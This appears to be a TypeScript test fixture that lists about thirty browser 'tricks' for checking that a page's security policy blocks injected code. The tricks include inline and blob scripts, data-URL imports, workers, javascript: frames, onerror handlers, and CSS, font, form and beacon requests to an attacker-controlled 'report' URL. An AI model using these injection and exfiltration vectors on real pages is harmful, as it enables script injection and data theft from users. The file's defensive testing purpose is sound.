/** Runs in a page: tries to make the page run code, which says so to the console and to `report`. What throws is refused. */
export type Trick = (report: string) => void | Promise<void>;

/* oxlint-disable unicorn/consistent-function-scoping -- each trick is sent to the page as its own text and can use nothing of this file */

/** What an injected fragment of markup or a confused part of our own code could do with bytes that it has fetched. */
export const hostileTricks = {
  'inline script': (report) => {
    const script = document.createElement('script');
    script.text = `[console.log('ran ${report}'),fetch('${report}')]`;
    document.body.append(script);
  },
  'inline module': (report) => {
    const script = document.createElement('script');
    script.type = 'module';
    script.text = `[console.log('ran ${report}'),fetch('${report}')]`;
    document.body.append(script);
  },
  'script from a blob': (report) => {
    const script = document.createElement('script');
    script.src = URL.createObjectURL(
      new Blob([`[console.log('ran ${report}'),fetch('${report}')]`], { type: 'text/javascript' }),
    );
    document.body.append(script);
  },
  'script from a data address': (report) => {
    const script = document.createElement('script');
    script.src = `data:text/javascript,[console.log('ran ${report}'),fetch('${report}')]`;
    document.body.append(script);
  },
  'module from a blob': (report) => {
    const script = document.createElement('script');
    script.type = 'module';
    script.src = URL.createObjectURL(
      new Blob([`[console.log('ran ${report}'),fetch('${report}')]`], { type: 'text/javascript' }),
    );
    document.body.append(script);
  },
  'import of a blob': async (report) => {
    await import(
      URL.createObjectURL(new Blob([`[console.log('ran ${report}'),fetch('${report}')]`], { type: 'text/javascript' }))
    );
  },
  'import of a data address': async (report) => {
    await import(`data:text/javascript,[console.log('ran ${report}'),fetch('${report}')]`);
  },
  'import map': async (report) => {
    const map = document.createElement('script');
    map.type = 'importmap';
    map.textContent = JSON.stringify({
      imports: { evil: `data:text/javascript,[console.log('ran ${report}'),fetch('${report}')]` },
    });
    document.head.append(map);
    const name = 'evil';
    await import(name);
  },
  'worker from a blob': (report) => {
    void new Worker(
      URL.createObjectURL(new Blob([`[console.log('ran ${report}'),fetch('${report}')]`], { type: 'text/javascript' })),
    );
  },
  'module worker from a blob': (report) => {
    const url = URL.createObjectURL(
      new Blob([`[console.log('ran ${report}'),fetch('${report}')]`], { type: 'text/javascript' }),
    );
    void new Worker(url, { type: 'module' });
  },
  'shared worker from a blob': (report) => {
    void new SharedWorker(
      URL.createObjectURL(new Blob([`[console.log('ran ${report}'),fetch('${report}')]`], { type: 'text/javascript' })),
    );
  },
  'frame of a blob': (report) => {
    const frame = document.createElement('iframe');
    frame.src = URL.createObjectURL(
      new Blob([`<script>[console.log('ran ${report}'),fetch('${report}')]</script>`], { type: 'text/html' }),
    );
    document.body.append(frame);
  },
  'frame of an SVG blob': (report) => {
    const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>[console.log('ran ${report}'),fetch('${report}')]</script></svg>`;
    const frame = document.createElement('iframe');
    frame.src = URL.createObjectURL(new Blob([svg], { type: 'image/svg+xml' }));
    document.body.append(frame);
  },
  'frame with a document in its attribute': (report) => {
    const frame = document.createElement('iframe');
    frame.srcdoc = `<script>[console.log('ran ${report}'),fetch('${report}')]</script>`;
    document.body.append(frame);
  },
  'frame of a script address': (report) => {
    const frame = document.createElement('iframe');
    frame.src = `javascript:[console.log('ran ${report}'),fetch('${report}')]`;
    document.body.append(frame);
  },
  'frame of the attacker': (report) => {
    const frame = document.createElement('iframe');
    frame.src = report;
    document.body.append(frame);
  },
  'object of a blob': (report) => {
    const object = document.createElement('object');
    object.data = URL.createObjectURL(
      new Blob([`<script>[console.log('ran ${report}'),fetch('${report}')]</script>`], { type: 'text/html' }),
    );
    document.body.append(object);
  },
  'embedded blob': (report) => {
    const embed = document.createElement('embed');
    embed.src = URL.createObjectURL(
      new Blob([`<script>[console.log('ran ${report}'),fetch('${report}')]</script>`], { type: 'text/html' }),
    );
    document.body.append(embed);
  },
  'link with a script address': (report) => {
    const link = document.createElement('a');
    link.href = `javascript:void [console.log('ran ${report}'),fetch('${report}')]`;
    document.body.append(link);
    link.click();
  },
  'handler in markup': (report) => {
    const box = document.createElement('div');
    box.innerHTML = `<img src="data:," onerror="[console.log('ran ${report}'),fetch('${report}')]">`;
    document.body.append(box);
  },
  'handler as an attribute': (report) => {
    const image = document.createElement('img');
    image.setAttribute('onerror', `[console.log('ran ${report}'),fetch('${report}')]`);
    image.src = 'data:,';
    document.body.append(image);
  },
  'markup with a range': (report) => {
    const range = document.createRange();
    document.body.append(
      range.createContextualFragment(`<script>[console.log('ran ${report}'),fetch('${report}')]</script>`),
    );
  },
  'markup that sends an image': (report) => {
    document.body.append(Object.assign(document.createElement('img'), { src: report }));
  },
  'style that sends an image': (report) => {
    const style = document.createElement('style');
    style.textContent = `body { background: url('${report}') }`;
    document.body.append(style);
  },
  'style that imports': (report) => {
    const style = document.createElement('style');
    style.textContent = `@import url('${report}');`;
    document.body.append(style);
  },
  'style from a blob': (report) => {
    const sheet = new Blob([`@import url('${report}');`], { type: 'text/css' });
    document.head.append(
      Object.assign(document.createElement('link'), { rel: 'stylesheet', href: URL.createObjectURL(sheet) }),
    );
  },
  'prefetch of a module': (report) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'modulepreload', href: report }));
  },
  'font of the attacker': async (report) => {
    await new FontFace('evil', `url('${report}')`).load();
  },
  'form to the attacker': (report) => {
    const frame = Object.assign(document.createElement('iframe'), { name: 'sink' });
    const form = Object.assign(document.createElement('form'), { action: report, target: 'sink' });
    document.body.append(frame, form);
    form.submit();
  },
  'request to the attacker': async (report) => {
    await fetch(report, { mode: 'no-cors' });
  },
  'beacon to the attacker': (report) => {
    navigator.sendBeacon(report, 'x');
  },
} satisfies Record<string, Trick>;
